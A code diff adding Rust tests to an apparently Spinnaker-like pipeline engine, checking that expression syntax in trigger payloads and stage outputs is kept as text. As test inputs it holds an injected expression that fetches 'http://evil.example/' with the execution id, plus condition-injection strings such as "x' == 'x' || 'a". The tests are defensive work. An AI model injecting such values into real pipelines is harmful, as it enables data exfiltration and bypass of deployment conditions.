@@ -9,6 +9,7 @@ use crate::orchestrator::engine::effect::Effect;
 use crate::orchestrator::engine::effect::Outcome;
 use crate::orchestrator::engine::event::Command;
 use crate::orchestrator::engine::event::Event;
+use crate::orchestrator::engine::event::Message;
 use crate::orchestrator::engine::status::Status;
 
 #[test]
@@ -46,6 +47,47 @@ fn a_condition_skips_its_stage_and_those_within_and_downstream_goes_on() {
         assert_eq!(rig.status("2"), status, "{text}");
         rig.run_out();
         assert_eq!(rig.ended(), [Status::Succeeded]);
+    }
+}
+
+#[test]
+fn what_people_and_tasks_say_is_text_whatever_it_looks_like() {
+    let context = json!({"tasks": ["hold", "call"], "failOnFailedExpressions": true, "seen": "${ trigger.payload }"});
+    let mut rig = Rig::new(vec![stage("1", &[], context), stage("2", &["1"], json!({"tasks": ["call"], "input": "${ #judgment('1') }"}))]);
+    let stranger = "${ #fromUrl('http://evil.example/' + execution.id) }";
+    rig.execution.summary_mut().trigger.insert("payload".to_owned(), stranger.into());
+    rig.tick();
+    let said = json!({"answer": "SUCCEEDED", "judgmentInput": stranger, "more": { "${ 1 + 1 }": stranger }});
+    let (stage, context) = (rig.stage("1").id.clone(), said.as_object().cloned().expect("an object"));
+    rig.say(Message::Patch { stage, by: String::new(), roles: vec![], admin: false, allowed_accounts: vec![], context });
+    rig.done("1", "SUCCEEDED");
+    let context = rig.stage("1").context();
+    assert_eq!((&context["seen"], &context["judgmentInput"]), (&json!(stranger), &json!(stranger)));
+    assert_eq!(context["more"], json!({ "${ 1 + 1 }": stranger }));
+    assert_eq!(rig.status("1"), Status::Succeeded);
+    rig.run_out();
+    assert!(
+        !rig.commands.iter().any(|c| matches!(c, Command::Perform { effect: Effect::Fetch { .. }, .. })),
+        "nobody's page was asked for"
+    );
+    assert_eq!(rig.ended(), [Status::Succeeded]);
+}
+
+#[test]
+fn an_expression_within_a_condition_gives_a_word_and_no_more_of_the_condition() {
+    for (word, status) in [("prod", Status::Running), ("x' == 'x' || 'a", Status::Skipped), ("${ true }", Status::Skipped)] {
+        let condition = json!({"type": "expression", "expression": "'${ trigger.word }' == 'prod'"});
+        let mut rig = Rig::new(vec![stage("1", &[], json!({"tasks": ["call"], "stageEnabled": condition})), call("2", &["1"])]);
+        rig.execution.summary_mut().trigger.insert("word".to_owned(), word.into());
+        rig.tick();
+        assert_eq!(rig.status("1"), status, "{word}");
+    }
+    for (word, status) in [("true", Status::Running), ("1 == 1", Status::Skipped)] {
+        let condition = json!({"type": "expression", "expression": "${ trigger.word }"});
+        let mut rig = Rig::new(vec![stage("1", &[], json!({"tasks": ["call"], "stageEnabled": condition})), call("2", &["1"])]);
+        rig.execution.summary_mut().trigger.insert("word".to_owned(), word.into());
+        rig.tick();
+        assert_eq!(rig.status("1"), status, "{word}");
     }
 }
 
